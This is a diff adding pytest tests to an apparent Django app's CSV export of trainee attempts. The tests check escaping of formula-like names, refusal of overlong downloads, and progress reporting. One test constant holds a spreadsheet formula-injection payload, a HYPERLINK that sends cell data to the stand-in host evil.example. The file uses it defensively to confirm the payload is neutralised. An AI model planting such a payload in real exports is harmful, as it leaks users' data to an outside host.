@@ -135,6 +135,46 @@ def test_the_summary_csv_has_one_row_per_trainee_skill_and_game(login_as, owner,
     assert len(rows) == 4
 
 
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
+
+
+@pytest.mark.parametrize("kind", ["attempts", "summary"])
+def test_a_trainee_whose_name_is_a_formula_is_exported_as_text(login_as, owner, trainee, april, kind):
+    trainee.user.name = FORMULA_NAME
+    trainee.user.save(update_fields=["name"])
+    response = login_as(owner).get(url("export_stream", owner.organisation), _params(kind=kind))
+    rows = _rows(b"".join(response.streaming_content))
+    names = {dict(zip(rows[0], row, strict=True))["trainee_name"] for row in rows[1:]}
+    assert "'" + FORMULA_NAME in names
+    assert FORMULA_NAME not in names
+    assert not any(cell.startswith(("=", "+", "@")) for row in rows[1:] for cell in row)
+
+
+def test_the_job_file_escapes_a_formula_name_too(owner, trainee, april, media_root):
+    trainee.user.name = FORMULA_NAME
+    trainee.user.save(update_fields=["name"])
+    job = _job(owner, media_root)
+    tasks.export_run.apply(kwargs={"job_id": job.pk}).get()
+    with open(os.path.join(media_root, job.file.name), encoding="utf-8") as done:
+        rows = list(csv.reader(io.StringIO(done.read()[1:])))
+    names = {dict(zip(rows[0], row, strict=True))["trainee_name"] for row in rows[1:]}
+    assert "'" + FORMULA_NAME in names
+
+
+def test_a_download_too_long_to_stream_is_refused_with_a_pointer_to_the_background_file(
+    login_as, owner, april, settings
+):
+    settings.EXPORT_STREAM_MAX_ROWS = 3
+    response = login_as(owner).get(url("export_stream", owner.organisation), _params(), **EN)
+    assert response.status_code == 422
+    assert not response.streaming
+    assert (
+        "This export has 4 rows, more than the 3 that can be downloaded directly" in response.content.decode()
+    )
+    settings.EXPORT_STREAM_MAX_ROWS = 4
+    assert login_as(owner).get(url("export_stream", owner.organisation), _params()).streaming
+
+
 def test_another_organisation_sees_none_of_these_attempts(login_as, other_owner, april):
     response = login_as(other_owner).get(url("export_stream", other_owner.organisation), _params())
     assert len(_rows(b"".join(response.streaming_content))) == 1
@@ -312,13 +352,18 @@ def test_progress_is_reported_while_writing(owner, trainee, media_root, monkeypa
     first_day, today = timezone.localdate(start).isoformat(), timezone.localdate().isoformat()
     job = _job(owner, media_root, start=first_day, end=today)
     seen = []
-    real = exports._set
+    real, real_beat = exports._set, exports.jobs.beat
 
     def spy(job_id, **fields):
         seen.append(fields)
         return real(job_id, **fields)
 
+    def beat_spy(model, job_id, run, **fields):
+        seen.append(fields)
+        return real_beat(model, job_id, run, **fields)
+
     monkeypatch.setattr(exports, "_set", spy)
+    monkeypatch.setattr(exports.jobs, "beat", beat_spy)
     tasks.export_run.apply(kwargs={"job_id": job.pk}).get()
     assert [fields["done"] for fields in seen if set(fields) == {"done"}] == [2, 5, 8]
     assert seen[-1]["status"] == "done"
